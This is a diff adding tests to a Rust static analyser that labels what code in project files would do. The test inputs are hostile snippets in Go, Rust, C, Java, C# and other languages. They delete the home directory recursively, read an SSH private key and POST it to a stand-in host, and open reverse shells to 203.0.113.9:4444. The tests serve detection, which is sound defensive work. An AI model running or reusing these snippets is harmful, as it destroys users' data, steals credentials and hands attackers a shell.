@@ -65,6 +65,10 @@ fn what_a_file_would_do_is_told_wherever_its_form_names_commands() {
             ".devcontainer/devcontainer.json",
             format!("{{\"postCreateCommand\": \"{run}\"}}"),
         ),
+        (
+            "main.tf",
+            format!("provisioner \"local-exec\" {{\n  command = \"{run}\"\n}}\n"),
+        ),
         ("a.ipynb", format!("!{run}")),
         ("tool.py", format!("import os\nos.system('{run}')\n")),
         (
@@ -128,6 +132,7 @@ fn what_a_script_does_to_its_own_project_or_to_what_it_is_given_is_left_to_its_r
         "if test -d \"$D\"; then rm -rf \"$D/\"*; fi",
         "sudo rm -rf /opt/app /etc/app",
         "rm -rf ~/.cache/app",
+        "echo x > /dev/net/tun",
         "walk() { for f in \"$1\"/*; do walk \"$f\"; done; }; walk .",
         "curl -H \"Authorization: Bearer $TOKEN\" https://api.x.example/",
     ] {
@@ -217,4 +222,139 @@ fn files_in_files_are_read_within_bounds() {
         found.iter().any(|action| action.kind.as_str() == "unknown"),
         "{found:?}"
     );
+}
+
+#[test]
+fn sources_that_are_compiled_first_are_read_as_well() {
+    let deleted = ["fs.delete /home/u (later, recursive)"];
+    for (path, text) in [
+        ("a.go", "func main() { os.RemoveAll(\"/home/u\") }"),
+        (
+            "a.go",
+            "func main() {\n\thome, _ := os.UserHomeDir()\n\tos.RemoveAll(home)\n}",
+        ),
+        (
+            "a.go",
+            "h := os.Getenv(\"HOME\")\nos.RemoveAll(filepath.Join(h, \"\"))",
+        ),
+        (
+            "a.rs",
+            "fn main() { std::fs::remove_dir_all(\"/home/u\").unwrap(); }",
+        ),
+        (
+            "a.rs",
+            "let h = std::env::var(\"HOME\").unwrap();\nfs::remove_dir_all(&h)?;",
+        ),
+        (
+            "a.rs",
+            "let h = dirs::home_dir().expect(\"home\");\nfs::remove_dir_all(h)?;",
+        ),
+        (
+            "a.cpp",
+            "#define HOME \"/home/u\"\nint main() { std::filesystem::remove_all(HOME); }",
+        ),
+        (
+            "A.java",
+            "FileUtils.deleteDirectory(new File(System.getProperty(\"user.home\")));",
+        ),
+        (
+            "a.cs",
+            "Directory.Delete(Environment.GetEnvironmentVariable(\"HOME\"), true);",
+        ),
+    ] {
+        assert_eq!(later(path, text), deleted, "{path}: {text}");
+    }
+    let forced = ["fs.delete /home/u (force, later, recursive)"];
+    for (path, text) in [
+        ("a.c", "int main() { system(\"rm -rf \" \"~\"); }"),
+        (
+            "a.c",
+            "const char *c = \"rm -rf /home/u\";\nint main() { system(c); }",
+        ),
+        (
+            "a.c",
+            "execl(\"/bin/rm\", \"rm\", \"-rf\", \"/home/u\", NULL);",
+        ),
+        ("a.go", "exec.Command(\"rm\", \"-rf\", \"/home/u\").Run()"),
+        (
+            "a.go",
+            "exec.Command(\"sh\", \"-c\", fmt.Sprintf(\"rm -rf %s\", \"/home/u\")).Run()",
+        ),
+        (
+            "a.go",
+            "args := []string{\"-rf\", \"/home/u\"}\nexec.Command(\"rm\", args...).Run()",
+        ),
+        (
+            "a.rs",
+            "Command::new(\"rm\").arg(\"-rf\").arg(\"/home/u\").status()?;",
+        ),
+        (
+            "a.rs",
+            "Command::new(\"sh\")\n    .args([\"-c\", r#\"rm -rf ~\"#])\n    .spawn();",
+        ),
+        ("A.java", "Runtime.getRuntime().exec(\"rm -rf /home/u\");"),
+        (
+            "A.java",
+            "new ProcessBuilder(\"rm\", \"-rf\", \"/home/u\").start();",
+        ),
+        (
+            "a.kt",
+            "Runtime.getRuntime().exec(arrayOf(\"rm\", \"-rf\", \"/home/u\"))",
+        ),
+        (
+            "a.cs",
+            "Process.Start(\"/bin/sh\", \"-c 'rm -rf /home/u'\");",
+        ),
+    ] {
+        assert_eq!(later(path, text), forced, "{path}: {text}");
+    }
+    assert_eq!(
+        later(
+            "a.go",
+            "k, _ := os.ReadFile(\"/home/u/.ssh/id_rsa\")\nhttp.Post(\"https://x.example/\", \"t\", bytes.NewReader(k))"
+        ),
+        ["net.send https://x.example/ (later, method_write, secret)"]
+    );
+    for (path, text) in [
+        (
+            "a.go",
+            "c, _ := net.Dial(\"tcp\", \"203.0.113.9:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c",
+        ),
+        (
+            "a.c",
+            "a.sin_port = htons(4444);\na.sin_addr.s_addr = inet_addr(\"203.0.113.9\");\nexecl(\"/bin/sh\", \"sh\", NULL);",
+        ),
+        (
+            "a.rs",
+            "let s = TcpStream::connect(\"203.0.113.9:4444\")?;\nCommand::new(\"/bin/sh\").stdin(s).spawn()?;",
+        ),
+        (
+            "A.java",
+            "Socket s = new Socket(\"203.0.113.9\", 4444);\nnew ProcessBuilder(\"/bin/sh\").start();",
+        ),
+    ] {
+        let kinds: Vec<String> = later(path, text);
+        assert!(
+            kinds
+                .iter()
+                .any(|told| told.starts_with("exec.remote_shell 203.0.113.9:4444")),
+            "{path}: {kinds:?}"
+        );
+    }
+    for (path, text) in [
+        (
+            "a.go",
+            "// os.RemoveAll(\"/home/u\")\nfmt.Println(\"rm -rf /home/u\")",
+        ),
+        ("a.go", "os.RemoveAll(filepath.Join(home, \".cache/app\"))"),
+        ("a.rs", "fs::remove_dir_all(dir.path().join(\"x\"))?;"),
+        ("a.rs", "assert_eq!(told(\"rm -rf ~\"), \"system('x')\");"),
+        (
+            "a.c",
+            "/* system(\"rm -rf /\") */ int main(void) { puts(\"system\"); return 'x'; }",
+        ),
+        ("A.java", "Files.delete(Path.of(\"build\"));"),
+    ] {
+        assert_eq!(later(path, text), NOTHING, "{path}: {text}");
+    }
 }
